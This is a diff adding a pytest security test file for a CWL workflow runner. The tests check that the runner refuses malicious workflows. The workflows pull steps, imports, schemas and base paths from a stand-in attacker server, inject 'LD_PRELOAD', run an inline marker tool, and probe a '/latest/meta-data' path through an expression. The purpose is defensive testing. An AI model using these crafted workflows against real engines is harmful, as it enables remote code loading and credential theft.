@@ -1,0 +1,191 @@
+"""Issue 18, "What to build" item 4: the runner alone holds the line.
+
+The runner is handed malicious "rewritten" workflows directly, as if every
+check of the service had been removed: `python -m cerise_actors.runner`
+with the job's folder (`--root`) and the installed steps (`--steps`), as
+job scripts start it. It must fetch nothing (the attacker's server is
+asked for nothing), run nothing but installed steps (the attacker's tool
+leaves no mark), and fail.
+"""
+
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from ..helpers import TEST_API_DIR
+from .attacker import EVIL_TOOL, attacker_server
+
+REPO_DIR = Path(__file__).resolve().parents[2]
+STEP = 'test/steps/test/hostname.cwl'
+
+
+@pytest.fixture
+def attacker(tmp_path):
+    with attacker_server(tmp_path) as server:
+        yield server
+
+
+def _job(tmp_path: Path) -> Path:
+    job = tmp_path / 'jobs' / 'j1'
+    for sub in ('work', 'tmp'):
+        (job / sub).mkdir(parents=True)
+    (job / 'input.json').write_text('{}')
+    return job
+
+
+def _run(tmp_path: Path, workflow, job: Path) -> subprocess.CompletedProcess:
+    text = workflow if isinstance(workflow, str) else json.dumps(workflow)
+    (job / 'workflow.cwl').write_text(text)
+    args = ['--root', str(job), '--steps', str(TEST_API_DIR), '--disable-color']
+    args += ['--no-container', '--outdir', str(job / 'work'), '--tmpdir-prefix', f'{job}/tmp/']
+    args += ['--tmp-outdir-prefix', f'{job}/tmp/', str(job / 'workflow.cwl')]
+    args += [str(job / 'input.json')]
+    env = dict(os.environ, PYTHONPATH=str(REPO_DIR))
+    env.pop('CWLTOOL_OPTIONS', None)
+    return subprocess.run(
+        [sys.executable, '-m', 'cerise_actors.runner', *args],
+        cwd=job / 'work',
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+
+
+def _workflow(steps, **top):
+    doc = {
+        'cwlVersion': 'v1.0',
+        'class': 'Workflow',
+        'inputs': [],
+        'outputs': [{'id': 'out', 'type': 'File', 'outputSource': 's/output'}],
+        'steps': steps,
+    }
+    doc.update(top)
+    return doc
+
+
+def _step(run, **more):
+    return dict({'id': 's', 'run': run, 'in': [], 'out': ['output']}, **more)
+
+
+def test_an_installed_step_runs(tmp_path):
+    """The control: the same runner runs a workflow of installed steps."""
+    job = _job(tmp_path)
+    step = (TEST_API_DIR / STEP).as_uri()
+    result = _run(tmp_path, _workflow([_step(step)]), job)
+    assert result.returncode == 0, result.stderr
+    assert json.loads(result.stdout)['out']['class'] == 'File'
+
+
+def _cases(url: str, job: Path) -> dict:
+    step_path = str(TEST_API_DIR / STEP)
+    evil_local = job / 'work' / 'input' / '1' / 'evil.cwl'
+    return {
+        # the issue's probe: a bare path resolved against an http id
+        'http-id': _workflow([_step(step_path)], id=f'{url}/evil/wf.cwl'),
+        'step-id': _workflow([_step(step_path, id=f'{url}/evil/s')]),
+        'run-url': _workflow([_step(f'{url}/evil/tool.cwl')]),
+        'base': _workflow([_step('example/hostname.cwl')], **{'$base': f'{url}/evil/'}),
+        'import': _workflow([_step({'$import': f'{url}/evil/tool.cwl'})]),
+        'schemas': _workflow([_step(step_path)], **{'$schemas': [f'{url}/evil/s.rdf']}),
+        'inline-tool': _workflow([_step(dict(EVIL_DOC, id='evil'))]),
+        'job-file-tool': _workflow([_step(evil_local.as_uri())]),
+        'env-var': _workflow(
+            [_step((TEST_API_DIR / STEP).as_uri())],
+            requirements=[{'class': 'EnvVarRequirement', 'envDef': {'LD_PRELOAD': '/x.so'}}],
+        ),
+        'a-tool-itself': EVIL_DOC,
+        'yaml-not-json': f'cwlVersion: v1.0\nclass: Workflow\nid: {url}/wf\n',
+    }
+
+
+EVIL_DOC = {
+    'cwlVersion': 'v1.0',
+    'class': 'CommandLineTool',
+    'baseCommand': ['touch', 'MARK'],
+    'inputs': [],
+    'outputs': {'output': {'type': 'stdout'}},
+}
+
+
+@pytest.mark.parametrize(
+    'case',
+    [
+        'http-id',
+        'step-id',
+        'run-url',
+        'base',
+        'import',
+        'schemas',
+        'inline-tool',
+        'job-file-tool',
+        'env-var',
+        'a-tool-itself',
+        'yaml-not-json',
+    ],
+)
+def test_the_runner_alone_fetches_nothing_and_runs_no_other_tool(tmp_path, attacker, case):
+    job = _job(tmp_path)
+    evil_local = job / 'work' / 'input' / '1' / 'evil.cwl'
+    evil_local.parent.mkdir(parents=True)
+    evil_local.write_text(EVIL_TOOL.format(mark=attacker.mark))
+    workflow = _cases(attacker.url, job)[case]
+    text = json.dumps(workflow) if isinstance(workflow, dict) else workflow
+    result = _run(tmp_path, text.replace('MARK', str(attacker.mark)), job)
+    assert result.returncode != 0, result.stdout + result.stderr
+    attacker.assert_untouched()
+
+
+def test_an_expression_returning_a_url_is_refused_by_the_runner_alone(tmp_path, attacker):
+    job = _job(tmp_path)
+    workflow = _workflow(
+        [
+            {
+                'id': 's',
+                'run': (TEST_API_DIR / 'test/steps/test/wc.cwl').as_uri(),
+                'in': [
+                    {
+                        'id': 'file',
+                        'valueFrom': '$({"class": "File", "location": "'
+                        + attacker.url
+                        + '/latest/meta-data"})',
+                    }
+                ],
+                'out': ['output'],
+            }
+        ],
+        requirements=[
+            {'class': 'InlineJavascriptRequirement'},
+            {'class': 'StepInputExpressionRequirement'},
+        ],
+        cwlVersion='v1.2',
+    )
+    result = _run(tmp_path, workflow, job)
+    assert result.returncode != 0, result.stdout
+    assert 'expressions may only name files of the job' in result.stderr, result.stderr
+    attacker.assert_untouched()
+
+
+def test_an_input_object_naming_a_url_is_not_downloaded(tmp_path, attacker):
+    job = _job(tmp_path)
+    workflow = _workflow(
+        [
+            {
+                'id': 's',
+                'run': (TEST_API_DIR / 'test/steps/test/wc.cwl').as_uri(),
+                'in': [{'id': 'file', 'source': 'file'}],
+                'out': ['output'],
+            }
+        ],
+        inputs=[{'id': 'file', 'type': 'File'}],
+    )
+    (job / 'input.json').write_text(
+        json.dumps({'file': {'class': 'File', 'location': f'{attacker.url}/data'}})
+    )
+    result = _run(tmp_path, workflow, job)
+    assert result.returncode != 0, result.stdout
+    attacker.assert_untouched()
